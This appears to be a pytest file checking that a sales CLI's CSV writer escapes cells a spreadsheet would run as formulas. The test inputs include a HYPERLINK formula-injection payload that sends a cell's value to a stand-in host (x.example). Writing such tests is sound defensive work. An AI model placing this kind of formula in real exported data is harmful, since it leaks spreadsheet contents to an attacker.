"""CSV on stdout (`--csv`) that a spreadsheet opens as data: what an agent typed never runs
as a formula."""

from __future__ import annotations

import argparse
import csv
import io
from typing import Any

import pytest

from c360.sales.v1 import sales_service_pb2 as api
from c360_cli import sales_cmds
from c360_cli.main import main
from c360_cli.output import CsvWriter


def test_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() -> None:
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(['=HYPERLINK("http://x.example/?"&A1,"Click")', "+1+2", "@SUM(A1)", "-A1"])
    writer.writerow(["\tfoo", "chose a competitor", "-12.50", "+3", 7, "21020.00"])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ['\'=HYPERLINK("http://x.example/?"&A1,"Click")', "'+1+2", "'@SUM(A1)", "'-A1"],
        ["'\tfoo", "chose a competitor", "-12.50", "+3", "7", "21020.00"],
    ]


def test_the_lost_reasons_report_as_csv_neutralises_a_reason_typed_as_a_formula(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    reply = api.GetSalesReportResponse(
        tables=[
            api.ReportTable(
                name="lost",
                columns=["reason", "competitor", "lost", "amount", "currency"],
                rows=[
                    api.ReportRow(cells=['=HYPERLINK("http://x.example")', "=1+2", "1", "5", "EUR"])
                ],
            )
        ]
    )

    def answer(args: argparse.Namespace, method: str, request: Any) -> Any:
        assert method == "GetSalesReport"
        return reply

    monkeypatch.setattr(sales_cmds, "_call", answer)
    assert main(["sales", "report", "lost", "--csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1] == ["lost", '\'=HYPERLINK("http://x.example")', "'=1+2", "1", "5", "EUR"]
